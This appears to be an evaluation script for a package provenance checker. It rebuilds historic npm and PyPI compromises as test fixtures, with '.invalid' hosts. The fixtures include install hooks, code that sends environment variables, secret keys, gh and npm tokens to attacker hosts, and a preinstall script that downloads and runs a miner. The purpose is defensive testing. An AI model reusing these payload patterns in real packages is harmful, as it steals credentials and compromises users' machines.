#!/usr/bin/env python3
"""Evaluate ``provcheck release`` on real Python sdists/wheels and npm tarballs against their
upstream git tags, and on the historic registry compromises reproduced from clean artifacts.

Artifacts come from the registries through their own clients (``pip download``, ``npm pack``)
and are cached under ``.cache/pkg-release-eval/``. Repositories are local clones, laid out as
``REPOS/<owner>+<name>/repo`` (a bare or a work-tree clone); nothing is fetched from them and
nothing of them is committed:

    python eval/pkg_release_eval.py --repos DIR [--only NAME ...] [--json results.json]

Clean cases must get no high or critical finding; every lower finding is printed so it can be
explained. Historic cases are the clean release's artifact plus the published malicious change
(harmless payload, same mechanics: the hook, the file, the calls, a new endpoint under
``.invalid``); each must get a critical finding on the changed file or hook. Exit 1 when any
expectation fails.
"""

from __future__ import annotations

import argparse
import base64
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
CACHE = HERE.parent / ".cache" / "pkg-release-eval"
ORDER = ["info", "low", "medium", "high", "critical"]


@dataclass
class Case:
    name: str                 # registry name
    version: str
    repo: str                 # owner+name
    tag: str
    kind: str                 # sdist | wheel | npm
    attack: str | None = None  # historic case: the function building the malicious artifact
    source_artifact: bool = False  # compare with the clean artifact (repository too big to clone here)
    expect_critical: list[str] = field(default_factory=list)  # paths that must carry a critical finding


PYPI = [("pluggy", "1.5.0", "pytest-dev+pluggy", "1.5.0"), ("packaging", "24.2", "pypa+packaging", "24.2"),
        ("attrs", "24.2.0", "python-attrs+attrs", "24.2.0"), ("requests", "2.32.3", "psf+requests", "v2.32.3"),
        ("urllib3", "2.2.3", "urllib3+urllib3", "2.2.3"), ("rich", "13.9.4", "Textualize+rich", "v13.9.4"),
        ("six", "1.16.0", "benjaminp+six", "1.16.0"), ("idna", "3.10", "kjd+idna", "v3.10"),
        ("click", "8.1.7", "pallets+click", "8.1.7"), ("markupsafe", "2.1.5", "pallets+markupsafe", "2.1.5")]
NPM = [("chalk", "5.3.0", "chalk+chalk", "v5.3.0"), ("debug", "4.3.7", "debug-js+debug", "4.3.7"),
       ("semver", "7.6.3", "npm+node-semver", "v7.6.3"), ("commander", "12.1.0", "tj+commander.js", "v12.1.0"),
       ("ms", "2.1.3", "vercel+ms", "2.1.3"), ("uuid", "10.0.0", "uuidjs+uuid", "v10.0.0"),
       ("once", "1.4.0", "isaacs+once", "v1.4.0"),
       ("escape-string-regexp", "5.0.0", "sindresorhus+escape-string-regexp", "v5.0.0"),
       ("supports-color", "9.4.0", "chalk+supports-color", "v9.4.0"), ("inherits", "2.0.4", "isaacs+inherits", "v2.0.4")]

CASES = ([Case(n, v, r, t, k) for n, v, r, t in PYPI for k in ("sdist", "wheel")]
         + [Case(n, v, r, t, "npm") for n, v, r, t in NPM]
         # the historic cases' clean baselines, against their tags
         + [Case("@solana/web3.js", "1.95.5", "solana-labs+solana-web3.js", "v1.95.5", "npm"),
            Case("@ctrl/tinycolor", "4.1.0", "scttcper+tinycolor", "v4.1.0", "npm"),
            Case("ua-parser-js", "0.7.28", "faisalman+ua-parser-js", "0.7.28", "npm")]
         + [Case("ultralytics", "8.3.40", "", "", "wheel", "ultralytics", source_artifact=True,
                 expect_critical=["ultralytics/utils/downloads.py"]),
            Case("ctx", "0.1.2", "figlief+ctx", "0.1.2", "sdist", "ctx", expect_critical=["ctx.py"]),
            Case("@solana/web3.js", "1.95.5", "solana-labs+solana-web3.js", "v1.95.5", "npm", "solana",
                 expect_critical=["package/lib/index.cjs.js", "package/lib/index.esm.js"]),
            Case("nx", "21.4.1", "", "", "npm", "nx", source_artifact=True,
                 expect_critical=["package/package.json", "package/telemetry.js"]),
            Case("@ctrl/tinycolor", "4.1.0", "scttcper+tinycolor", "v4.1.0", "npm", "shai_hulud",
                 expect_critical=["package/package.json", "package/bundle.js"]),
            Case("ua-parser-js", "0.7.28", "faisalman+ua-parser-js", "0.7.28", "npm", "ua_parser",
                 expect_critical=["package/package.json", "package/preinstall.js"])])


# -- artifacts ---------------------------------------------------------------------------------

def download(case: Case) -> Path:
    out = CACHE / "artifacts" / f"{case.name.replace('/', '_')}-{case.version}-{case.kind}"
    done = [p for p in out.glob("*") if p.is_file()] if out.is_dir() else []
    if done:
        return done[0]
    out.mkdir(parents=True, exist_ok=True)
    if case.kind == "npm":
        cmd = ["npm", "pack", f"{case.name}@{case.version}", "--pack-destination", str(out)]
    else:
        fmt = ["--no-binary", ":all:", "--no-build-isolation"] if case.kind == "sdist" else ["--only-binary", ":all:"]
        cmd = [sys.executable, "-m", "pip", "download", "-q", "--no-deps", *fmt, "-d", str(out),
               f"{case.name}=={case.version}"]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    files = [p for p in out.glob("*") if p.is_file()]
    if proc.returncode != 0 or not files:
        raise RuntimeError(f"{' '.join(cmd[:4])}: {proc.stderr.strip()[-400:]}")
    return files[0]


def build_sdist(repo: Path, tag: str, out: Path) -> Path:
    """The release's sdist rebuilt from its tag (for projects the registry no longer serves)."""
    out.mkdir(parents=True, exist_ok=True)
    done = list(out.glob("*.tar.gz"))
    if done:
        return done[0]
    work = out / "tree"
    work.mkdir()
    archive = subprocess.run(["git", f"--git-dir={git_dir(repo)}", "archive", tag], capture_output=True, check=True)
    tarfile.open(fileobj=io.BytesIO(archive.stdout)).extractall(work, filter="data")
    subprocess.run([sys.executable, "-m", "build", "--sdist", "--no-isolation", "--outdir", str(out), str(work)],
                   capture_output=True, check=True, timeout=300)
    return next(out.glob("*.tar.gz"))


def git_dir(repo: Path) -> Path:
    return repo / ".git" if (repo / ".git").is_dir() else repo


# -- rewriting artifacts as the attackers did ------------------------------------------------------

def read_members(path: Path) -> dict[str, bytes]:
    if path.suffix == ".whl":
        with zipfile.ZipFile(path) as z:
            return {i.filename: z.read(i) for i in z.infolist() if not i.is_dir()}
    with tarfile.open(path) as t:
        return {m.name: t.extractfile(m).read() for m in t.getmembers() if m.isfile()}


def write_like(src: Path, dst: Path, members: dict[str, bytes]) -> Path:
    dst.parent.mkdir(parents=True, exist_ok=True)
    if src.suffix == ".whl":
        record = next(n for n in members if n.endswith(".dist-info/RECORD"))
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        for name, data in members.items():  # the attacker's build writes a consistent RECORD
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            w.writerow([name, "", ""] if name == record else [name, f"sha256={digest}", len(data)])
        members[record] = buf.getvalue().encode()
        with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in members.items():
                z.writestr(name, data)
        return dst
    with tarfile.open(dst, "w:gz") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 499162500
            t.addfile(info, io.BytesIO(data))
    return dst


def _package_json(m: dict[str, bytes]) -> dict:
    return json.loads(m["package/package.json"])


def attack_ultralytics(m: dict[str, bytes]) -> None:
    """8.3.41: ``ultralytics/utils/downloads.py`` gained a function that runs a downloaded miner
    (``subprocess.Popen`` of the file with a pool address), called from the download helper."""
    path = "ultralytics/utils/downloads.py"
    text = m[path].decode()
    payload = '''

def safe_run(path):
    """Safely runs the provided file, making sure it is executable."""
    os.chmod(path, 0o770)
    command = [path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7C",
               "-o", "connect.attacker.invalid:8080", "-k"]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)
    os.remove(path)
'''
    if "import subprocess" not in text:
        text = "import subprocess\n" + text
    m[path] = (text + payload).encode()


def attack_ctx(m: dict[str, bytes]) -> None:
    """0.2.2: ``Ctx.__init__`` sent every environment variable, base64-encoded, to a new host."""
    name = next(n for n in m if n.endswith("/ctx.py"))
    text = m[name].decode()
    payload = '''

def sendRequest():
    import base64, requests
    from os import environ
    if environ.get("AWS_ACCESS_KEY_ID") is not None:
        secret = environ.get("AWS_ACCESS_KEY_ID")
    values = " ".join(value for _, value in environ.items())
    message = base64.b64encode(values.encode("ascii", "replace")).decode("ascii")
    requests.get("https://anti-theft-web.attacker.invalid/hacked/" + message)
'''
    m[name] = (text + payload).encode()


def attack_solana(m: dict[str, bytes]) -> None:
    """1.95.6/7: ``addToQueue`` in every built bundle, called where secret keys are handled."""
    fn = ('function addToQueue(privateKey) {\n  try {\n    fetch("https://sol-rpc.attacker.invalid/api/rpc/queue", '
          '{method: "POST", headers: {"x-amz-cf-id": Buffer.from(privateKey).toString("base64")}}).catch(() => {});\n'
          '  } catch (e) {}\n}\n')
    for name in [n for n in m if n.startswith("package/lib/index") and n.endswith(".js")]:
        text = m[name].decode()
        text = text.replace("static fromSecretKey(secretKey, options) {",
                            "static fromSecretKey(secretKey, options) {\n    addToQueue(secretKey);", 1)
        m[name] = (text + "\n" + fn).encode()


def attack_nx(m: dict[str, bytes]) -> None:
    """21.5.0: ``"postinstall": "node telemetry.js"`` and a telemetry.js that ran local AI CLIs and
    gh to collect secrets and publish them (here: the same calls, harmless commands)."""
    doc = _package_json(m)
    doc.setdefault("scripts", {})["postinstall"] = "node telemetry.js"
    m["package/package.json"] = json.dumps(doc, indent=2).encode()
    m["package/telemetry.js"] = b"""#!/usr/bin/env node
const { spawnSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const result = { env: process.env, hostname: os.hostname(), platform: process.platform };
const gh = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8' });
if (gh.status === 0) result.ghToken = gh.stdout;
const npmrc = fs.existsSync(os.homedir() + '/.npmrc') ? fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') : '';
result.npmrc = npmrc;
const blob = Buffer.from(JSON.stringify(result)).toString('base64');
spawnSync('true', ['repo', 'create', 's1ngularity-repository', '--public'], { input: blob });
"""


def attack_shai_hulud(m: dict[str, bytes]) -> None:
    """@ctrl/tinycolor 4.1.1: a webpack ``bundle.js`` (trufflehog run, env harvest, webhook upload,
    self-propagation through npm tokens) and ``"postinstall": "node bundle.js"``."""
    doc = _package_json(m)
    doc.setdefault("scripts", {})["postinstall"] = "node bundle.js"
    doc["version"] = "4.1.1"
    m["package/package.json"] = json.dumps(doc, indent=2).encode()
    m["package/bundle.js"] = (
        b'(()=>{var e={1:(e,t,r)=>{const n=r(2),o=r(3);e.exports=async function(){const e=process.env,'
        b't=e.NPM_TOKEN||"";const r=n.execSync("true filesystem --json",{encoding:"utf8"});'
        b'await new Promise(n=>{const s=o.request({hostname:"webhook.attacker.invalid",path:"/bb8ca5f6",'
        b'method:"POST"},n);s.end(JSON.stringify({env:e,token:t,found:r}))})}},'
        b'2:e=>{e.exports=require("child_process")},3:e=>{e.exports=require("https")}},t={};'
        b'function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}'
        b'r(1)()})();\n')


def attack_ua_parser(m: dict[str, bytes]) -> None:
    """0.7.29: ``"preinstall": "start /B node preinstall.js & node preinstall.js"``, a preinstall.js
    starting preinstall.sh/.bat, which downloaded and ran a miner (here: harmless commands)."""
    doc = _package_json(m)
    doc.setdefault("scripts", {})["preinstall"] = "start /B node preinstall.js & node preinstall.js"
    m["package/package.json"] = json.dumps(doc, indent=2).encode()
    m["package/preinstall.js"] = b"""const { exec } = require("child_process");
function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {});
}
var opsys = process.platform;
if (opsys == "linux") terminalLinux();
else if (opsys == "win32" || opsys == "win64") exec("preinstall.bat", () => {});
"""
    m["package/preinstall.sh"] = (b"#!/bin/bash\nIP=$(curl -k https://freegeoip.attacker.invalid/xml/)\n"
                                  b"curl -k -o jsextension https://citationsherbe.attacker.invalid/jsextension\n"
                                  b"chmod +x ./jsextension\n./jsextension -k --tls --rig-id q -o pool.attacker.invalid:443 "
                                  b"-u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjb"
                                  b" -p p --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &\n")
    m["package/preinstall.bat"] = b"@echo off\r\ncurl https://citationsherbe.attacker.invalid/sdd.dll -o compile.dll\r\n"


ATTACKS = {"ultralytics": attack_ultralytics, "ctx": attack_ctx, "solana": attack_solana, "nx": attack_nx,
           "shai_hulud": attack_shai_hulud, "ua_parser": attack_ua_parser}


# -- running -------------------------------------------------------------------------------------

def provcheck(*args: str) -> tuple[int, dict, float]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PROVCHECK_")}
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "provcheck", "release", *args, "--format", "json"],
                          capture_output=True, text=True, timeout=1800, env=env)
    took = time.monotonic() - t0
    if not proc.stdout:
        raise RuntimeError(proc.stderr.strip()[-600:])
    return proc.returncode, json.loads(proc.stdout), took


def run_case(case: Case, repos: Path | None) -> dict:
    label = f"{case.name} {case.version} {case.kind}" + (f" + {case.attack} attack" if case.attack else "")
    row: dict = {"case": label, "ok": False}
    repo = repos / case.repo / "repo" if repos and case.repo else None
    try:
        if case.attack == "ctx":  # no longer served by the registry: rebuilt from its tag
            clean = build_sdist(repo, case.tag, CACHE / "built" / "ctx-0.1.2")
        else:
            clean = download(case)
    except Exception as exc:
        row["error"] = f"download: {exc}"
        return row
    target = clean
    if case.attack:
        members = read_members(clean)
        ATTACKS[case.attack](members)
        target = write_like(clean, CACHE / "attacks" / case.attack / clean.name, members)
    if case.source_artifact:
        args = [str(target), "--source", str(clean)]
        row["source"] = f"the clean {clean.name} (repository too big to clone here)"
    elif repo is None or not repo.exists():
        row["error"] = f"no clone of {case.repo} under --repos"
        return row
    else:
        args = [str(target), "--source", str(repo), "--ref", case.tag]
        row["source"] = f"{case.repo.replace('+', '/')}@{case.tag}"
    try:
        code, data, took = provcheck(*args)
    except Exception as exc:
        row["error"] = f"provcheck: {exc}"
        return row
    fs = data.get("findings", [])
    counts = {s: sum(1 for f in fs if f["severity"] == s) for s in ORDER}
    row.update(exit=code, seconds=round(took, 1), counts=counts, errors=data.get("errors", []),
               summary=next((f["message"] for f in fs if f["rule_id"] == "PC100"), ""),
               findings=[{"rule": f["rule_id"], "severity": f["severity"], "path": f["location"].get("path", ""),
                          "message": f["message"][:300]} for f in fs
                         if ORDER.index(f["severity"]) >= 1 or f["rule_id"] in ("PC129",)])
    if case.attack:
        crit = {f["location"].get("path", "") for f in fs if f["severity"] == "critical"}
        missing = [p for p in case.expect_critical if not any(c.endswith(p) for c in crit)]
        row["ok"] = not missing
        row["missing_critical"] = missing
    else:
        row["ok"] = counts["high"] == 0 and counts["critical"] == 0
    return row


# Real PEP 740 provenance: pypi-attestations' own test assets (the sdist its release workflow
# published and PyPI's provenance object for it), read from the clone with `git show`.
PROVENANCE_REPO = "trailofbits+pypi-attestations"
PROVENANCE_CASES = [  # (label, artifact asset, provenance asset, ref, rule expected, severity expected)
    ("pypi-attestations 0.0.19 sdist + PEP 740 provenance", "pypi_attestations-0.0.19.tar.gz",
     "pypi_attestations-0.0.19.tar.gz.provenance", "v0.0.19", "PC129", "info"),
    ("  same provenance, compared with tag v0.0.18", "pypi_attestations-0.0.19.tar.gz",
     "pypi_attestations-0.0.19.tar.gz.provenance", "v0.0.18", "PC127", "critical"),
    ("  provenance of the sdist given for the rfc8785 wheel", "rfc8785-0.1.2-py3-none-any.whl",
     "pypi_attestations-0.0.19.tar.gz.provenance", "v0.0.19", "PC127", "critical"),
]


def run_provenance(repos: Path) -> list[dict]:
    repo = repos / PROVENANCE_REPO / "repo"
    rows = []
    if not repo.exists():
        return [{"case": "PEP 740 provenance", "ok": False, "error": f"no clone of {PROVENANCE_REPO} under --repos"}]
    out = CACHE / "provenance"
    out.mkdir(parents=True, exist_ok=True)
    for label, artifact, prov, ref, rule, severity in PROVENANCE_CASES:
        paths = []
        for asset in (artifact, prov):
            dst = out / asset
            if not dst.exists():
                dst.write_bytes(subprocess.run(["git", f"--git-dir={git_dir(repo)}", "show", f"HEAD:test/assets/{asset}"],
                                               capture_output=True, check=True).stdout)
            paths.append(dst)
        row = {"case": label, "ok": False}
        try:
            code, data, took = provcheck(str(paths[0]), "--source", str(repo), "--ref", ref, "--provenance",
                                         str(paths[1]))
        except Exception as exc:
            row["error"] = str(exc)
            rows.append(row)
            continue
        fs = data.get("findings", [])
        got = [f for f in fs if f["rule_id"] in ("PC127", "PC128", "PC129")]
        row.update(exit=code, seconds=round(took, 1), counts={s: sum(1 for f in fs if f["severity"] == s) for s in ORDER},
                   findings=[{"rule": f["rule_id"], "severity": f["severity"], "path": "", "message": f["message"][:300]}
                             for f in got], errors=data.get("errors", []))
        row["ok"] = bool(got) and all(f["rule_id"] == rule and f["severity"] == severity for f in got)
        rows.append(row)
    return rows


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--repos", type=Path, help="directory of clones: <owner>+<name>/repo")
    ap.add_argument("--only", action="append", help="run only cases whose name contains this")
    ap.add_argument("--json", type=Path, help="write the results here")
    args = ap.parse_args()
    rows = []
    todo: list = [c for c in CASES if not args.only or any(o in c.name or o == c.attack for o in args.only)]
    if args.repos and (not args.only or "provenance" in args.only):
        todo.append("provenance")
    for case in todo:
        new_rows = run_provenance(args.repos) if case == "provenance" else [run_case(case, args.repos)]
        for row in new_rows:
            rows.append(row)
            report(row)
    if args.json:
        args.json.write_text(json.dumps(rows, indent=2) + "\n")
    failed = [r for r in rows if not r["ok"]]
    print(f"{len(rows) - len(failed)}/{len(rows)} cases met their target")
    return 1 if failed else 0


def report(row: dict) -> None:
    c = row.get("counts") or {}
    status = "ok  " if row["ok"] else "FAIL"
    print(f"{status} {row['case']:48} " + (row.get("error") or
          f"exit {row['exit']} {row['seconds']:6.1f}s  crit {c['critical']} high {c['high']} "
          f"med {c['medium']} low {c['low']}"), flush=True)
    for f in row.get("findings", []):
        if ORDER.index(f["severity"]) >= 1 or f["rule"] in ("PC127", "PC129"):
            print(f"       {f['severity']:8} {f['rule']} {f['path']}: {f['message'][:160]}")
    for e in row.get("errors", [])[:3]:
        print(f"       error: {str(e)[:200]}")


if __name__ == "__main__":
    sys.exit(main())
